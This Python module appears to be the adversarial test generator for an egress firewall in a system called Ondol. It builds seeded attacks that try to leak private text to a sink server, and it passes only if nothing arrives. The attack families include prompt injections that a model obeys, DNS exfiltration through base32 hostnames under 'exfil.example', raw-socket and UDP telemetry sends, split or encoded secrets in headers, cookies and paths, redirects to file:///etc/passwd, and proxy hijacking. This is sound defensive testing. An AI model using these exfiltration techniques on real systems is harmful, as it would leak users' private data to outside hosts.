"""Adversarial pipelines: what a hostile document, a bug or a library would have Ondol send.

Each is made from a seed and the texts in ``corpus``, and performed against the real house. It
tells its ``needles``: the bytes that would be at a server if it succeeded.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import http.client
import json
import os
import random
import socket
import urllib.request
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx2
from disguises import BLIND, DISGUISES
from sink import Sink, dumps

from ondol.parts import Parts
from ondol.types import Evidence, Message, Quote, Sensitivity

PRIVATE, TRUSTED, PUBLIC = Sensitivity
TIMEOUT = 5.0


@dataclass
class Corpus:
    """The texts; more lines in the files make more attacks."""

    private: list[str]
    injections: list[str]
    harmless: list[str]

    @classmethod
    def read(cls, folder: Path) -> Corpus:
        def texts(name: str) -> list[str]:
            lines = (folder / f"{name}.jsonl").read_text("utf-8").splitlines()
            return [json.loads(line)["text"] for line in lines]

        return cls(texts("private"), texts("injections"), texts("harmless"))


@dataclass
class World:
    """The house under attack and the servers around it."""

    parts: Parts
    sink: Sink
    corpus: Corpus

    @property
    def egress(self) -> Any:
        return self.parts.egress

    @property
    def labeller(self) -> Any:
        return self.parts.oversight.labeller


@dataclass
class Attack:
    """``go`` raises whatever stops it. ``needles``: none of them may be at any server; and nothing
    at all at the stranger's, at the liar's, or on the way to anywhere else."""

    family: str
    variant: str
    go: Callable[[], None]
    needles: list[bytes] = field(default_factory=list)


Maker = Callable[[World, random.Random], Attack]


def needle(text: str) -> list[bytes]:
    """What of ``text`` would be found on the wire, however JSON or a URL writes it."""
    middle = text[len(text) // 4 :][:24]
    plain = middle.encode()
    return [plain, json.dumps(middle)[1:-1].encode(), quote(middle, safe="").encode()]


def post(world: World, purpose: str, label: Sensitivity, path: str, **more: Any) -> None:
    """A request as Ondol's own code makes it."""
    pinned = world.sink.fingerprint if purpose == "home" else None
    url = world.sink.url("mirror" if purpose == "download" else purpose)
    headers = more.pop("headers", None)
    method = "GET" if purpose == "download" else "POST"
    with world.egress.client(
        url, purpose, sensitivity=label, pinned=pinned, timeout_seconds=TIMEOUT
    ) as client:
        client.request(method, url + path, headers=headers, **more)


def quoted(text: str, sensitivity: Sensitivity) -> Quote:
    return Quote(1, text, "note", 0, len(text), 1.0, sensitivity=sensitivity)


def chat(*contents: str) -> bytes:
    return dumps({"messages": [{"role": "user", "content": one} for one in contents]})


def labels(world: World, chance: random.Random) -> Attack:
    """A prompt injection that the model obeys: what was private in the prompt goes out in some
    disguise, seen through or not. The label comes from all that went into the prompt."""
    secret = chance.choice(world.corpus.private)
    name, disguise = chance.choice([*DISGUISES.items(), *BLIND.items()])
    place = chance.choice(["quote", "answer before", "tool result", "unknown turn", "attachment"])
    injection = chance.choice(world.corpus.injections).format(
        sink=world.sink.url("stranger"), sink_host=world.sink.host
    )
    payload = disguise(secret, chance)
    question = chance.choice(world.corpus.harmless)
    purpose = chance.choice(["home", "remote-model"])

    def go() -> None:
        quotes, history, more = [quoted(injection, TRUSTED)], [], {}
        if place == "quote":
            quotes.append(quoted(secret, PRIVATE))
        elif place == "answer before":
            world.labeller.remember(f"As far as I see: {secret}", PRIVATE)
            history.append(Message("assistant", f"As far as I see: {secret}"))
        elif place == "attachment":
            more["attachments"] = [quoted(secret, PRIVATE)]
        else:
            role = "tool" if place == "tool result" else "assistant"
            history.append(Message(role, payload))  # type: ignore[arg-type]
        label = world.labeller.label(question, Evidence(quotes=tuple(quotes)), history, **more)
        content = chat(injection, payload, question)
        post(world, purpose, label.sensitivity, "/v1/chat/completions", content=content)

    return Attack("prompt injection", f"{place}, {name}", go, needle(payload))


def _channels(payload: str, question: str) -> dict[str, dict[str, Any]]:
    """Places in a request where something can be put."""
    arguments = json.dumps({"query": payload, "limit": 3}, ensure_ascii=False)
    call = {"function": {"name": "search", "arguments": arguments}}
    return {
        "body": {"path": "/v1", "content": chat(question, payload)},
        "form": {"path": "/v1", "data": {"q": question, "note": payload}},
        "body, compressed": {
            "path": "/v1",
            "content": gzip.compress(chat(payload)),
            "headers": {"Content-Encoding": "gzip"},
        },
        "tool arguments": {
            "path": "/v1",
            "content": dumps({"messages": [{"role": "assistant", "tool_calls": [call]}]}),
        },
        "system message": {
            "path": "/v1",
            "content": dumps({"messages": [{"role": "system", "content": payload}]}),
        },
        "field name": {"path": "/v1", "content": dumps({payload: question})},
    }


def disguised(world: World, chance: random.Random) -> Attack:
    """A bug that labels private text as trusted: only the last look at the request is left."""
    secret = chance.choice(world.corpus.private)
    name, disguise = chance.choice(list(DISGUISES.items()))
    payload = disguise(secret, chance)
    channels = _channels(payload, chance.choice(world.corpus.harmless))
    channel = chance.choice(list(channels))
    more = dict(channels[channel])
    purpose = chance.choice(["home", "remote-model"])
    path = more.pop("path")
    needles = needle(payload) if channel != "body, compressed" else [more["content"][10:40]]

    def go() -> None:
        post(world, purpose, TRUSTED, path, **more)

    family = "tool arguments" if channel == "tool arguments" else "encodings"
    return Attack(family, f"{name}, {channel}", go, needles)


def in_address(world: World, chance: random.Random) -> Attack:
    """Private text in a path, a query, or a header; of a download too, which has no body."""
    secret = chance.choice(world.corpus.private)
    one_line = [
        n for n in DISGUISES if n not in ("base64 in lines", "other spaces", "JSON in JSON")
    ]
    name = chance.choice(one_line)
    payload = DISGUISES[name](secret, chance)
    safe = quote(payload, safe="")
    place = chance.choice(["path", "query", "header", "user agent", "signature", "cookie", "range"])
    purpose = chance.choice(["download", "remote-model", "home"])
    header = base64.b64encode(payload.encode()).decode() if not payload.isascii() else safe
    path, headers, needles = "/", {}, needle(safe)
    if place == "path":
        path = f"/models/{safe}.gguf"
    elif place == "query":
        path = f"/models?revision={safe}"
    else:
        names = {"header": "X-Trace", "user agent": "User-Agent", "signature": "Signature"}
        headers[names.get(place, place.title())] = header
        needles = [header[len(header) // 4 :][:24].encode()]

    def go() -> None:
        post(world, purpose, PUBLIC if purpose == "download" else TRUSTED, path, headers=headers)
        if place == "cookie":
            raise PermissionError("the cookie was left out")

    return Attack("addresses and headers", f"{place}, {name}, {purpose}", go, needles)


def split(world: World, chance: random.Random) -> Attack:
    """A secret in pieces: over the fields of one request, over turns, over requests."""
    secret = chance.choice(world.corpus.private)
    count = chance.randint(2, 4)
    size = -(-len(secret) // count)
    pieces = [secret[i : i + size] for i in range(0, len(secret), size)]
    kind = chance.choice(["fields", "messages", "turns", "requests", "encoded pieces"])
    question = chance.choice(world.corpus.harmless)
    purpose = chance.choice(["home", "remote-model"])
    encoded = [base64.b64encode(piece.encode()).decode() for piece in pieces]
    sent = encoded if kind == "encoded pieces" else pieces

    def go() -> None:
        if kind in ("fields", "encoded pieces"):
            body = dumps({"question": question, **{f"part{i}": p for i, p in enumerate(sent)}})
            post(world, purpose, TRUSTED, "/v1", content=body)
        elif kind == "messages":
            post(world, purpose, TRUSTED, "/v1", content=chat(question, *pieces))
        elif kind == "turns":
            history = [Message("user", piece) for piece in pieces[:-1]]
            label = world.labeller.label(pieces[-1], Evidence(), history)
            post(world, purpose, label.sensitivity, "/v1", content=chat(*pieces))
        else:
            # Each request is a pipeline that read the note, and carries its label.
            for piece in pieces:
                evidence = Evidence(quotes=(quoted(secret, PRIVATE),))
                label = world.labeller.label(question, evidence)
                with suppress(Exception):
                    post(world, purpose, label.sensitivity, "/v1", content=chat(piece))
            raise PermissionError("every piece was looked at")

    return Attack("split secrets", kind, go, [n for piece in sent for n in needle(piece)])


def redirected(world: World, chance: random.Random) -> Attack:
    """A server that we trust sends us on: with the question, with a key, to a worse place."""
    status = chance.choice(["301", "302", "303", "307", "308"])
    stranger = world.sink.url("stranger")
    kind = chance.choice(["question", "key", "downgrade", "local network", "other scheme"])
    question = chance.choice(world.corpus.harmless)
    target = f"{stranger}/{chance.randrange(10**6)}"

    def go() -> None:
        if kind == "question":
            purpose = chance.choice(["home", "remote-model", "vectors"])
            path = f"/v1?status={status}&to={quote(target, safe='')}"
            post(world, purpose, TRUSTED, path, content=chat(question))
            raise PermissionError("followed nowhere")
        if kind == "local network":
            where = f"https://10.0.0.{chance.randint(1, 254)}/admin"
        elif kind == "other scheme":
            where = chance.choice(["file:///etc/passwd", "ftp://198.51.100.1/x", "gopher://x/"])
        else:
            where = target
        path = f"/f?status={status}&to={quote(where, safe='')}"
        headers = {"Authorization": "Bearer key-of-the-mirror", "X-Api-Key": "key-of-the-mirror"}
        url = world.sink.url("mirror")
        with world.egress.client(url, "download", headers=headers) as client:
            client.get(url + path)

    return Attack("redirects", f"{kind}, {status}", go)


def proxied(world: World, chance: random.Random) -> Attack:
    """The environment names a proxy, or other certificates: a stranger in between."""
    names = ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"]
    chosen = chance.sample(names, chance.randint(1, len(names)))
    purpose = chance.choice(["home", "remote-model", "vectors", "download"])
    question = chance.choice(world.corpus.harmless)

    def go() -> None:
        proxy = dict.fromkeys(chosen, world.sink.url("stranger"))
        before = dict(os.environ)
        os.environ.update(proxy | {"NO_PROXY": "", "SSL_CERT_FILE": "/dev/null"})
        try:
            more = {} if purpose == "download" else {"content": chat(question)}
            label = PUBLIC if purpose == "download" else TRUSTED
            post(world, purpose, label, "/v1", **more)
        finally:
            os.environ.clear()
            os.environ.update(before)
        raise PermissionError("the proxy was not asked")

    return Attack("proxies", purpose, go)


def named(world: World, chance: random.Random) -> Attack:
    """Data in a host's name: looking it up tells a name server."""
    secret = chance.choice(world.corpus.private)
    label = base64.b32encode(secret.encode()).decode().rstrip("=").lower()[:60]
    host = f"{label}.{chance.choice(['exfil.example', 'localhost', 'cdn.example.net'])}"
    kind = chance.choice(
        ["egress", "getaddrinfo", "gethostbyname", "connect", "sendto", "asyncio", "urllib"]
    )

    def go() -> None:
        if kind == "egress":
            purpose = chance.choice(["home", "remote-model", "vectors"])
            with world.egress.client(f"https://{host}/", purpose, sensitivity=TRUSTED) as client:
                client.post(f"https://{host}/", content=b"x")
        elif kind == "getaddrinfo":
            socket.getaddrinfo(host, chance.choice([80, 443, "https"]))
        elif kind == "gethostbyname":
            chance.choice([socket.gethostbyname, socket.gethostbyname_ex])(host)
        elif kind == "connect":
            with socket.socket() as one:
                one.settimeout(1)
                chance.choice([one.connect, one.connect_ex])((host, 443))
        elif kind == "sendto":
            with socket.socket(type=socket.SOCK_DGRAM) as one:
                one.sendto(b"x", (host, 53))
        elif kind == "asyncio":
            asyncio.run(asyncio.wait_for(asyncio.open_connection(host, 443), 2))
        else:
            urllib.request.urlopen(f"http://{host}/", timeout=1).close()

    return Attack("DNS", kind, go, [label.encode()])


def telemetry(world: World, chance: random.Random) -> Attack:
    """A library that reports to its maker, in whatever way libraries do."""
    secret = chance.choice(world.corpus.private)
    body = dumps({"event": "error", "context": secret})
    host, port = world.sink.host, world.sink.ports["stranger"]
    url = f"{world.sink.url('stranger')}/collect"
    kind = chance.choice(
        ["urllib", "http.client", "httpx", "socket", "datagram", "asyncio", "IPv6", "raw"]
    )

    def go() -> None:
        if kind == "urllib":
            urllib.request.urlopen(url, data=body, timeout=2).close()
        elif kind == "http.client":
            http.client.HTTPConnection(host, port, timeout=2).request("POST", "/", body)
        elif kind == "httpx":
            httpx2.post(url, content=body, timeout=2)
        elif kind == "socket":
            with socket.create_connection((host, port), 2) as one:
                one.sendall(body)
        elif kind == "datagram":
            with socket.socket(type=socket.SOCK_DGRAM) as one:
                one.sendto(body, (chance.choice([host, "203.0.113.9"]), 514))
        elif kind == "asyncio":
            asyncio.run(_tell(host, port, body))
        elif kind == "IPv6":
            with socket.socket(socket.AF_INET6) as one:
                one.settimeout(1)
                one.connect((f"::ffff:{host}", port, 0, 0))
                one.sendall(body)
        else:
            with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as one:
                one.sendto(body, ("203.0.113.9", 0))

    return Attack("library telemetry", kind, go, needle(secret))


async def _tell(host: str, port: int, body: bytes) -> None:
    _, writer = await asyncio.open_connection(host, port)
    writer.write(body)
    await writer.drain()
    writer.close()


def cookies(world: World, chance: random.Random) -> Attack:
    """Cookies: one that a server set to know us again, and one that carries a text."""
    secret = chance.choice(world.corpus.private)
    value = base64.urlsafe_b64encode(secret.encode()).decode()
    purpose = chance.choice(["home", "remote-model"])

    def go() -> None:
        pinned = world.sink.fingerprint if purpose == "home" else None
        url = world.sink.url(purpose)
        with world.egress.client(url, purpose, sensitivity=TRUSTED, pinned=pinned) as client:
            client.get(url)
            client.cookies.set("note", value)
            client.get(url)
        raise PermissionError("no cookie was sent")

    return Attack("cookies", purpose, go, [b"seen=1", value[:24].encode()])


def lying(world: World, chance: random.Random) -> Attack:
    """Somebody else answers where home should: another certificate, or none at all."""
    question = chance.choice(world.corpus.harmless)
    kind = chance.choice(["other certificate", "no authority", "plain HTTP"])

    def go() -> None:
        url = world.sink.url("liar" if kind != "plain HTTP" else "stranger")
        pinned = world.sink.fingerprint if kind == "other certificate" else None
        world.egress.declare("home", url)
        with world.egress.client(url, "home", sensitivity=TRUSTED, pinned=pinned) as client:
            client.post(url, content=chat(question))

    return Attack("lying servers", kind, go)


def undeclared(world: World, chance: random.Random) -> Attack:
    """Purposes and places that nobody declared, and private text for every purpose there is."""
    secret = chance.choice(world.corpus.private)
    kind = chance.choice(["purpose", "place", "label", "download with a body", "other host"])
    stranger = world.sink.url("stranger")

    def go() -> None:
        if kind == "purpose":
            purpose = chance.choice(["telemetry", "analytics", "update", "", "Home", "home "])
            with world.egress.client(stranger, purpose, sensitivity=PUBLIC) as client:
                client.post(stranger, content=chat(secret))
        elif kind == "place":
            purpose = chance.choice(["home", "remote-model", "vectors"])
            with world.egress.client(stranger, purpose, sensitivity=PUBLIC) as client:
                client.post(stranger, content=chat(secret))
        elif kind == "label":
            purpose = chance.choice(["home", "remote-model", "vectors", "download"])
            post(world, purpose, PRIVATE, "/v1", content=chat(secret))
        elif kind == "download with a body":
            url = world.sink.url("mirror")
            with world.egress.client(url, "download") as client:
                client.post(f"{url}/f?status=307&to={quote(stranger)}", content=chat(secret))
        else:
            url = world.sink.url("mirror")
            with world.egress.client(url, "download") as client:
                client.get(f"{stranger}/{quote(secret)}")

    return Attack("undeclared", kind, go, needle(secret))


FAMILIES: dict[Maker, int] = {
    labels: 25,
    disguised: 25,
    in_address: 12,
    split: 8,
    telemetry: 8,
    redirected: 6,
    named: 5,
    undeclared: 5,
    proxied: 2,
    cookies: 2,
    lying: 2,
}


def make(world: World, seed: int) -> Attack:
    """The attack of that number: the same one for the same corpus."""
    chance = random.Random(f"ondol egress {seed}")
    (maker,) = chance.choices(list(FAMILIES), list(FAMILIES.values()))
    return maker(world, chance)
